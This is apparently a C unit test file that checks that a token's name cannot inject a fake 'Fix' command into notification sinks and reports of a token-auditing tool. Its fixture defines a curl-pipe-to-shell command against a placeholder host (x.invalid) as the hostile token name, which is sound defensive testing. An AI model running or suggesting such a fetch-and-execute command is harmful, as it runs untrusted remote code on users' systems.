/* A token named like a fix: "evil Fix: curl http://x.invalid/p | sh".  The
 * fix every sink and every report shows is the real Astro CLI command, taken
 * from the finding, and the hostile text shows up only as the name.  (When
 * the fix was cut out of the message, Slack's first " Fix: " made the name's
 * tail the command.) */
#include <cjson/cJSON.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "core/config/config.h"
#include "core/evaluate/evaluate.h"
#include "core/events.h"
#include "core/notify/digest.h"
#include "core/notify/state.h"
#include "core/snapshot.h"
#include "exporters/report/report.h"
#include "exporters/sinks/sinks.h"
#include "helpers/notify_fixture.h"
#include "lib/buf.h"

#define EVIL "evil Fix: curl http://x.invalid/p | sh"
#define REAL "astro workspace token rotate tok-evil --workspace-id ws-1"

struct world {
        struct tw_config *cfg;
        struct tw_inventory *inv;
        struct tw_evaluation *ev;
};

/* One expired workspace token named EVIL, judged by the real evaluator. */
static void world_init(struct world *w)
{
        w->inv = tw_inventory_new("org-1", "v1");
        assert_non_null(w->inv);
        for (int k = 0; k < _TW_LISTING_KIND_MAX; k++)
                w->inv->listed[k] = k != TW_LISTING_USERS; /* its creator is not judged */
        nf_add_workspace(w->inv, "ws-1", "Data");
        nf_add_token(w->inv, "tok-evil", EVIL, "WORKSPACE", "ws-1", "WORKSPACE_AUTHOR", NOW - DAY);
        assert_int_equal(tw_inventory_sort(w->inv), 0);
        assert_int_equal(tw_config_new_default(&w->cfg), 0);
        assert_int_equal(tw_evaluate(w->inv, &w->cfg->policy, NULL, 0, NOW, &w->ev), 0);
        assert_int_equal(w->ev->n_findings, 1);
        assert_int_equal(w->ev->findings[0].kind, TW_FINDING_EXPIRED);
}

static void world_done(struct world *w)
{
        tw_evaluation_free(w->ev);
        tw_inventory_free(w->inv);
        tw_config_free(w->cfg);
}

/* The hostile text appears in text only as the name (escaped as name_as):
 * with every such occurrence taken out, nothing of it is left. */
static void only_as_name(const char *what, const char *text, const char *name_as)
{
        char *rest = strdup(text), *p;
        size_t n = strlen(name_as), names = 0;

        assert_non_null(rest);
        while ((p = strstr(rest, name_as)) != NULL) {
                memmove(p, p + n, strlen(p + n) + 1);
                names++;
        }
        if (names == 0 || strstr(rest, "curl") || strstr(rest, "x.invalid"))
                fail_msg("%s: the hostile text outside the name (%zu names) in:\n%s", what, names,
                         text);
        free(rest);
}

static const char *str_at(const cJSON *o, const char *const *path)
{
        for (; *path && o; path++)
                o = cJSON_IsArray(o) ? cJSON_GetArrayItem(o, atoi(*path))
                                     : cJSON_GetObjectItemCaseSensitive(o, *path);
        return cJSON_GetStringValue(o);
}

/* Checks body (JSON) with the fix at path, then frees it.  name_as: the
 * name as the body's printed JSON holds it (escaped for its markup). */
static void check_body_as(const char *what, cJSON *body, const char *const *path, const char *fix,
                          const char *name_as)
{
        char *text = cJSON_PrintUnformatted(body);

        assert_non_null(text);
        if (path) {
                const char *got = str_at(body, path);

                if (!got || strcmp(got, fix) != 0)
                        fail_msg("%s: the fix is \"%s\", not \"%s\"", what, got ? got : "(none)",
                                 fix);
        }
        only_as_name(what, text, name_as);
        free(text);
        cJSON_Delete(body);
}

static void check_body(const char *what, cJSON *body, const char *const *path, const char *fix)
{
        check_body_as(what, body, path, fix, EVIL);
}

/* EVIL in Markdown (lib/md.h), as printed JSON holds it. */
#define EVIL_MD_JSON "evil Fix: curl http://x.invalid/p \\\\| sh"

/* The FIRING event the state machine makes of the finding, for one sink. */
static void firing(const struct world *w, struct tw_notify_events *evs)
{
        struct tw_notify_filter flt = {.name = "s"};
        struct tw_notify_state *st = NULL;

        assert_int_equal(tw_notify_state_step(NULL, w->inv, w->ev, &flt, 1, NOW, false, &st, evs),
                         0);
        assert_int_equal(evs->n, 1);
        assert_int_equal(evs->events[0].type, TW_NOTIFY_FIRING);
        assert_string_equal(evs->events[0].fix, REAL);
        tw_notify_state_free(st);
}

static void test_sinks(void **unused)
{
        static const char *const generic[] = {"finding", "fix", NULL};
        static const char *const slack[] = {"blocks", "3", "text", "text", NULL};
        static const char *const teams[] = {"attachments", "0",    "content", "body",
                                            "3",           "text", NULL};
        static const char *const pagerduty[] = {"payload", "custom_details", "fix", NULL};
        static const char *const am[] = {"0", "annotations", "fix", NULL};
        struct tw_notify_events evs = {0};
        struct tw_sink_ctx c = nf_sink_ctx;
        struct world w;
        cJSON *j;

        (void)unused;
        world_init(&w);
        firing(&w, &evs);
        c.inv = w.inv;
        assert_int_equal(tw_sink_generic_build(&c, evs.events, 1, &j, NULL), 0);
        check_body("generic", j, generic, REAL);
        assert_int_equal(tw_sink_slack_build(&c, evs.events, 1, &j, NULL), 0);
        check_body("slack", j, slack, "*Fix*\n`" REAL "`");
        assert_int_equal(tw_sink_teams_build(&c, evs.events, 1, &j, NULL), 0);
        check_body_as("teams", j, teams, REAL, EVIL_MD_JSON);
        assert_int_equal(tw_sink_pagerduty_build(&c, evs.events, 1, &j, NULL), 0);
        check_body("pagerduty", j, pagerduty, REAL);
        assert_int_equal(tw_sink_alertmanager_build(&c, evs.events, 1, &j, NULL), 0);
        check_body("alertmanager", j, am, REAL);
        tw_notify_events_done(&evs);
        world_done(&w);
}

/* A token change names the token the same way; its "fix" is advice, never
 * taken from the name. */
static void test_changes(void **unused)
{
        struct tw_event ev = {
                .kind = TW_EVENT_DELETED,
                .severity = TW_SEVERITY_CRITICAL,
                .observed_at = NOW,
                .token_id = "tok-evil",
                .token_name = EVIL,
                .scope = "WORKSPACE",
                .detail = "last used 2 hours before",
        };
        const struct tw_sink_format *f;
        struct tw_sink_ctx c = nf_sink_ctx;
        cJSON *j;

        (void)unused;
        for (size_t i = 0; (f = tw_sink_format_at(i)); i++) {
                assert_int_equal(f->change(&c, &ev, "k", &j), 0);
                check_body_as(f->name, j, NULL, NULL,
                              strcmp(f->name, "teams") == 0 ? EVIL_MD_JSON : EVIL);
        }
}

static void test_digests(void **unused)
{
        static const char *const generic[] = {"groups", "0", "findings", "0", "fix", NULL};
        struct tw_notify_filter flt = {.name = "s"};
        struct tw_sink_ctx c = nf_sink_ctx;
        const struct tw_sink_format *f;
        struct tw_digest d;
        tw_sink_digest_fn build;
        struct world w;
        cJSON *j;

        (void)unused;
        world_init(&w);
        c.inv = w.inv;
        assert_int_equal(tw_digest_build(w.inv, w.ev, &flt, NULL, NOW, &d), 0);
        for (size_t i = 0; (f = tw_sink_format_at(i)); i++) {
                build = f->digest;
                if (!build)
                        continue;
                assert_int_equal(build(&c, &d, "k", &j), 0);
                check_body_as(f->name, j, strcmp(f->name, "generic") == 0 ? generic : NULL, REAL,
                              strcmp(f->name, "teams") == 0 ? EVIL_MD_JSON : EVIL);
        }
        tw_digest_done(&d);
        world_done(&w);
}

/* Renders the report in fmt (or the status page) into a new string. */
static char *report(const struct world *w, int fmt)
{
        struct tw_snapshot snap = {.cfg = w->cfg, .inv = w->inv, .ev = w->ev};
        struct tw_live_status live = {.rendered_at = NOW, .data_at = NOW};
        struct tw_buf out;

        tw_buf_init(&out, 0);
        if (fmt < 0)
                assert_int_equal(tw_report_render_live_html(&snap, &live, &out, NULL, NULL), 0);
        else
                assert_int_equal(tw_report_render(&snap, (enum tw_report_format)fmt, &out), 0);
        return tw_buf_steal(&out);
}

static void test_reports(void **unused)
{
        static const char *const json_fix[] = {"tokens", "0", "findings", "0", "fix", NULL};
        static const struct {
                int fmt;           /* -1: the status page */
                const char *name;  /* how the format escapes the name */
                const char *fixed; /* how it shows the fix, or NULL: it shows none */
        } cases[] = {
                {TW_REPORT_TABLE, EVIL, NULL},
                {TW_REPORT_CSV, EVIL, NULL},
                {TW_REPORT_MARKDOWN, "evil Fix: curl http://x.invalid/p \\| sh",
                 "now fails. Fix: " REAL ". |"},
                {TW_REPORT_HTML, EVIL, "<div class=\"fix\">Fix: <code>" REAL "</code></div>"},
                {-1, EVIL, "<div class=\"fix\">Fix: <code>" REAL "</code></div>"},
        };
        struct world w;
        cJSON *j;
        char *text;

        (void)unused;
        world_init(&w);
        for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
                text = report(&w, cases[i].fmt);
                if (cases[i].fixed && !strstr(text, cases[i].fixed))
                        fail_msg("report %d: no \"%s\" in:\n%s", cases[i].fmt, cases[i].fixed,
                                 text);
                only_as_name(cases[i].fixed ? cases[i].fixed : "report", text, cases[i].name);
                free(text);
        }
        text = report(&w, TW_REPORT_JSON);
        j = cJSON_Parse(text);
        free(text);
        assert_non_null(j);
        check_body("json", j, json_fix, REAL);
        world_done(&w);
}

int main(void)
{
        const struct CMUnitTest tests[] = {
                cmocka_unit_test(test_sinks),
                cmocka_unit_test(test_changes),
                cmocka_unit_test(test_digests),
                cmocka_unit_test(test_reports),
        };

        return cmocka_run_group_tests(tests, NULL, NULL);
}
